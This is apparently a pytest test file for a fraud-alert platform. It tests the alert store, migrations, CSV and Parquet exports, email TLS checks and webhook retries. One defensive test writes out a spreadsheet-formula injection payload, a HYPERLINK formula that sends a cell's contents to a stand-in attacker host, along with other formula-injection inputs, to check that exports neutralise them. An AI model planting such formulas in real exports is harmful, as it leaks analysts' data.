"""The alert store, exports and notification dispatch on real SQLite and PostgreSQL (no broker needed)."""

from __future__ import annotations

import csv
import io
import json
import ssl
from datetime import UTC, datetime, timedelta
from typing import Any

import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
import trustme

from fraudguard.alerts.export import CSV_COLUMNS, csv_lines, export_labels
from fraudguard.alerts.notify.channel import alert_line
from fraudguard.alerts.notify.dispatcher import Dispatcher
from fraudguard.alerts.notify.email import EmailDigestChannel
from fraudguard.alerts.notify.webhook import WebhookChannel
from fraudguard.alerts.store import VERSION_TABLE, AlertFilter, AlertStore, ReviewStatus
from fraudguard.alerts.store import alerts as alerts_table
from fraudguard.config.model import EmailSettings, WebhookSettings
from fraudguard.schemas import ALERT, REVIEW_LABEL
from tests.conftest import free_port
from tests.notification_peers import smtp_server, webhook_server
from tests.samples.alerts import sample_alerts


@pytest.fixture(params=["sqlite", "postgresql"])
def database_url(request, tmp_path) -> str:
    """An empty database of each kind the platform ships for: SQLite (local) and PostgreSQL (docker/)."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'alerts.db'}"
    return request.getfixturevalue("postgresql")()


@pytest.fixture
def store(database_url):
    store = AlertStore(database_url)
    yield store
    store.close()


def decoded(count: int, seed: int = 0, start: datetime | None = None) -> list[dict]:
    return [ALERT.decode(value) for value in sample_alerts(count, seed, start)[1]]


def test_an_alert_is_stored_once_however_often_it_arrives(store):
    alerts = decoded(50)
    first = store.add([*alerts, *alerts[:10]], channels=["webhook"])
    again = store.add(alerts[20:], channels=["webhook"])
    assert len(first.new) == 50 and first.duplicates == 10
    assert again.new == [] and again.duplicates == 30
    assert store.count() == 50
    assert store.pending("webhook") == 50  # one notification per alert, not per delivery
    stored = store.get(alerts[7]["transaction_id"])
    assert {name: stored[name] for name in ALERT.names} == alerts[7]
    assert stored["status"] == ReviewStatus.NEW


def test_filters_and_live_paging(store):
    start = datetime(2026, 3, 1, tzinfo=UTC)
    alerts = decoded(100, start=start)  # scored one second apart
    store.add(alerts)
    assert (
        store.count(AlertFilter(since=start + timedelta(seconds=10), until=start + timedelta(seconds=20)))
        == 10
    )
    user = alerts[3]["user_id"]
    assert {a["transaction_id"] for a in store.find(AlertFilter(user_id=user))} == {
        a["transaction_id"] for a in alerts if a["user_id"] == user
    }
    assert all(a["score"] >= 0.9 for a in store.find(AlertFilter(min_score=0.9), limit=1000))
    newest = store.find(limit=5)
    assert [a["id"] for a in newest] == [100, 99, 98, 97, 96]
    assert [a["id"] for a in store.find(after_id=97)] == [98, 99, 100]
    assert sum(1 for _ in store.iterate(chunk=7)) == 100


def test_reviews_give_precision_and_the_labels_retraining_reads(store, tmp_path):
    alerts = decoded(10)
    store.add(alerts)
    ids = [a["transaction_id"] for a in alerts]
    for key in ids[:3]:
        store.review(key, ReviewStatus.CONFIRMED_FRAUD, "card blocked")
    store.review(ids[3], ReviewStatus.FALSE_POSITIVE, None)
    store.review(ids[4], ReviewStatus.REVIEWING, None)
    assert store.review("no-such-transaction", ReviewStatus.REVIEWING, None) is None
    assert store.get(ids[0])["note"] == "card blocked"
    stats = store.stats()
    assert stats["reviewed"] == 4 and stats["confirmed_precision"] == pytest.approx(0.75)

    path = tmp_path / "labels.parquet"
    assert export_labels(store, path) == 4
    labels = pq.read_table(path)
    assert labels.schema.equals(REVIEW_LABEL.arrow(), check_metadata=False)
    assert dict(zip(labels["transaction_id"].to_pylist(), labels["is_fraud"].to_pylist(), strict=True)) == {
        ids[0]: True, ids[1]: True, ids[2]: True, ids[3]: False
    }  # fmt: skip


def test_feedback_gives_precision_per_review_day_and_model_version_and_the_labels_published(store):
    alerts = decoded(6)
    for alert, version in zip(alerts, ["1", "1", "1", "2", "2", "2"], strict=True):
        alert["model_version"] = version
    store.add(alerts)
    ids = [a["transaction_id"] for a in alerts]
    fraud, cleared = ReviewStatus.CONFIRMED_FRAUD, ReviewStatus.FALSE_POSITIVE
    verdicts = [fraud, cleared, fraud, fraud, ReviewStatus.REVIEWING, cleared]
    for key, status in zip(ids, verdicts, strict=True):
        store.review(key, status, None, "rita")
    now = datetime.now(UTC)
    with store.engine.begin() as connection:  # the first three were reviewed two days ago
        connection.execute(
            alerts_table.update().where(alerts_table.c.transaction_id.in_(ids[:3]))
            .values(reviewed_at=now - timedelta(days=2))
        )  # fmt: skip
    figures = store.feedback(days=30, now=now)
    assert figures["by_day"] == [
        {"day": f"{now - timedelta(days=2):%Y-%m-%d}", "confirmed": 2, "false_positives": 1,
         "precision": pytest.approx(2 / 3)},
        {"day": f"{now:%Y-%m-%d}", "confirmed": 1, "false_positives": 1, "precision": 0.5},
    ]  # fmt: skip
    by_version = figures["by_model_version"]
    assert [(v["model_version"], v["confirmed"], v["false_positives"]) for v in by_version] == [
        ("1", 2, 1), ("2", 1, 1)
    ]  # fmt: skip
    assert figures["labels_queued"] == 5 and figures["labels_published"] == 0  # the outbox holds them
    assert store.feedback(days=1, now=now)["by_day"] == figures["by_day"][1:]


def test_stats_count_alerts_per_minute_and_per_place(store):
    now = datetime(2026, 3, 1, 12, 0, 30, tzinfo=UTC)
    alerts = decoded(180, start=now - timedelta(minutes=3))  # 3 minutes of one alert per second
    store.add(alerts)
    stats = store.stats(minutes=5, now=now)
    per_minute = {m["minute"]: m["alerts"] for m in stats["per_minute"]}
    assert per_minute[datetime(2026, 3, 1, 11, 58, tzinfo=UTC)] == 60
    assert sum(per_minute.values()) == 180
    assert sum(place["alerts"] for place in stats["places"]) == 180
    assert sum(row["alerts"] for row in stats["by_country"]) == 180
    per_10s = {w["start"]: w["alerts"] for w in stats["per_10s"]}
    assert len(per_10s) == 31 and min(per_10s) == datetime(2026, 3, 1, 11, 55, 30, tzinfo=UTC)
    assert per_10s[datetime(2026, 3, 1, 11, 58, 10, tzinfo=UTC)] == 10 and sum(per_10s.values()) == 180
    per_category: dict[str, int] = {}
    for row in stats["by_category_per_minute"]:
        per_category[row["category"]] = per_category.get(row["category"], 0) + row["alerts"]
    assert per_category == {row["category"]: row["alerts"] for row in stats["by_category"]}


def test_stats_are_aggregated_by_the_database_not_in_python(store):
    now = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
    store.add(decoded(3000, start=now - timedelta(minutes=50)))  # one a second until now
    statements: list[tuple[str, Any]] = []

    def record(_connection, _cursor, statement, parameters, *_):
        statements.append((statement, parameters))

    sa.event.listen(store.engine, "before_cursor_execute", record)
    stats = store.stats(minutes=30, now=now)
    sa.event.remove(store.engine, "before_cursor_execute", record)
    assert sum(m["alerts"] for m in stats["per_minute"]) == 30 * 60
    with store.engine.connect() as connection:
        rows_read = sum(len(connection.exec_driver_sql(sql, params).all()) for sql, params in statements)
    # a row per minute (and per minute and category), 10-second window, category, country, status and map
    # cell: far fewer than one per alert (3,000)
    assert rows_read < 1000


def test_csv_export_has_every_alert_and_readable_reasons(store):
    alerts = decoded(25)
    store.add(alerts)
    rows = list(csv.DictReader(io.StringIO("".join(csv_lines(store.iterate())))))
    assert len(rows) == 25 and list(rows[0]) == list(CSV_COLUMNS)
    assert rows[0]["reasons"] == "; ".join(alerts[0]["reasons"])
    assert rows[0]["scored_at"].endswith("Z")


ADDED_AFTER_THE_FIRST_SCHEMA = ("reviewed_by", "version")


def test_a_store_made_before_alerts_could_lack_entities_is_upgraded_in_place(database_url):
    """The first schema had user, merchant, amount, currency and event time required: opening such a
    store upgrades it, keeping its alerts and reviews, and then it takes an alert without them."""
    required = ("user_id", "merchant_id", "amount", "currency", "event_time")
    first = sa.MetaData()
    sa.Table("alerts", first, *(
        sa.Column(c.name, c.type, primary_key=c.primary_key, unique=c.unique, index=c.index,
                  nullable=False if c.name in required else c.nullable)
        for c in alerts_table.columns if c.name not in ADDED_AFTER_THE_FIRST_SCHEMA
    ))  # fmt: skip
    engine = sa.create_engine(database_url)
    first.create_all(engine)
    old = decoded(2)
    with engine.begin() as connection:
        reviewed = [{**a, "status": "confirmed_fraud", "received_at": a["scored_at"]} for a in old]
        connection.execute(first.tables["alerts"].insert(), reviewed)
        refused = {**old[0], "transaction_id": "no-user", "user_id": None, "received_at": old[0]["scored_at"]}
    with pytest.raises(sa.exc.IntegrityError), engine.begin() as connection:
        connection.execute(first.tables["alerts"].insert(), [refused])
    engine.dispose()

    store = AlertStore(database_url)
    try:
        assert store.count() == 2 and store.get(old[1]["transaction_id"])["status"] == "confirmed_fraud"
        empty = {**decoded(3)[2], **dict.fromkeys(required)}
        assert len(store.add([empty]).new) == 1
        assert [store.get(empty["transaction_id"])[name] for name in required] == [None] * 5
        assert store.get(old[0]["transaction_id"])["version"] == 1
        reviewed = store.review(old[0]["transaction_id"], ReviewStatus.FALSE_POSITIVE, None, "ana", 1)
        assert reviewed["version"] == 2 and reviewed["reviewed_by"] == "ana"
        with store.engine.connect() as connection:
            assert connection.scalar(sa.text(f"SELECT version_num FROM {VERSION_TABLE}")) == "0003"
    finally:
        store.close()
    AlertStore(database_url).close()  # opening an up-to-date store again changes nothing


def test_an_alert_from_a_dataset_without_users_merchants_or_times_keeps_them_empty(store):
    """E.g. the credit-card dataset: no user, merchant, currency or event time to show or invent."""
    alert = {**decoded(1)[0], "user_id": None, "merchant_id": None, "currency": None, "event_time": None}
    full = decoded(2)[1]
    store.add([ALERT.decode(json.dumps(alert, default=str).encode()), full])
    stored = store.get(alert["transaction_id"])
    assert [stored[name] for name in ("user_id", "merchant_id", "currency", "event_time")] == [None] * 4
    line = alert_line(stored)
    assert "None" not in line and "user" not in line and f"{alert['amount']:.2f}" in line
    assert f"user {full['user_id']} merchant {full['merchant_id']}" in alert_line(
        store.get(full["transaction_id"])
    )
    rows = {
        row["transaction_id"]: row for row in csv.DictReader(io.StringIO("".join(csv_lines(store.iterate()))))
    }
    assert rows[alert["transaction_id"]]["user_id"] == "" and rows[alert["transaction_id"]]["currency"] == ""


def test_csv_export_neutralises_spreadsheet_formulas(store):
    """Text that a producer controls (ids, reasons) must not run as a formula in the analyst's sheet."""
    alerts = decoded(3)
    alerts[0]["user_id"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    alerts[1]["merchant_id"] = "@SUM(1+1)"
    alerts[2]["reasons"] = ["-2+3", "amount far above the user's average"]
    store.add(alerts)
    rows = {
        row["transaction_id"]: row for row in csv.DictReader(io.StringIO("".join(csv_lines(store.iterate()))))
    }
    first, second, third = (rows[alert["transaction_id"]] for alert in alerts)
    assert first["user_id"] == "'" + alerts[0]["user_id"]
    assert second["merchant_id"] == "'@SUM(1+1)"
    assert third["reasons"] == "'-2+3; amount far above the user's average"
    assert float(first["score"]) == alerts[0]["score"], "numbers stay numbers"


def test_email_over_starttls_goes_only_to_a_server_whose_certificate_verifies(tmp_path):
    ca = trustme.CA()
    server_tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert("127.0.0.1").configure_cert(server_tls)
    ca_file = tmp_path / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    port = free_port()
    settings = EmailSettings(smtp_host="127.0.0.1", smtp_port=port, starttls=True, recipients=["a@bank.test"])
    with smtp_server(port, tls_context=server_tls) as mailbox:
        with pytest.raises(ssl.SSLCertVerificationError):
            EmailDigestChannel(settings).deliver(decoded(2))  # a certificate the system does not trust
        assert mailbox == []
        trusted = settings.model_copy(update={"ca_file": str(ca_file)})
        EmailDigestChannel(trusted).deliver(decoded(2))
        assert len(mailbox) == 1 and "2 new fraud alert(s)" in mailbox[0]["Subject"]


def test_an_smtp_login_without_tls_is_refused_unless_allowed():
    plain = {
        "smtp_host": "mail.bank.test",
        "recipients": ["a@bank.test"],
        "username": "fraud",
        "password": "pw",
    }
    with pytest.raises(ValueError, match="expected starttls: true when a username is set"):
        EmailSettings(**plain)
    assert EmailSettings(**plain, starttls=True).username == "fraud"
    assert EmailSettings(**plain, login_without_tls=True).username == "fraud"


@pytest.fixture
def webhook():
    with webhook_server() as server:
        yield server


def test_the_webhook_retries_with_backoff_and_gives_up_to_dead_letters(store, webhook, caplog):
    secret_url = webhook.url + "services/T0001/B0001/s3cr3t-key"  # as chat webhooks are: the path is the key
    channel = WebhookChannel(WebhookSettings(url=secret_url, max_attempts=3, backoff_s=0.05))
    dispatcher = Dispatcher(store, [channel])
    alerts = decoded(5)
    store.add(alerts, channels=["webhook"])

    webhook.failures = 2  # the first alert fails twice, then goes through on its third attempt
    deadline = datetime.now(UTC) + timedelta(seconds=10)
    while store.pending("webhook") and datetime.now(UTC) < deadline:
        dispatcher.deliver_due()
    assert store.pending("webhook") == 0
    assert sorted(ALERT.decode(body)["transaction_id"] for body in webhook.received) == sorted(
        a["transaction_id"] for a in alerts
    )
    assert dispatcher.sent == {"webhook": 5} and store.notification_dead_letters() == []

    more = decoded(2, seed=1)
    store.add(more, channels=["webhook"])
    webhook.failures = 1000  # now the endpoint is down for good
    deadline = datetime.now(UTC) + timedelta(seconds=10)
    while store.pending("webhook") and datetime.now(UTC) < deadline:
        dispatcher.deliver_due()
    buried = store.notification_dead_letters()
    assert {row["transaction_id"] for row in buried} == {a["transaction_id"] for a in more}
    assert all(row["attempts"] == 3 and "503" in row["last_error"] for row in buried)
    assert not any("s3cr3t" in row["last_error"] for row in buried) and "s3cr3t" not in caplog.text
    assert "notification failed" in caplog.text
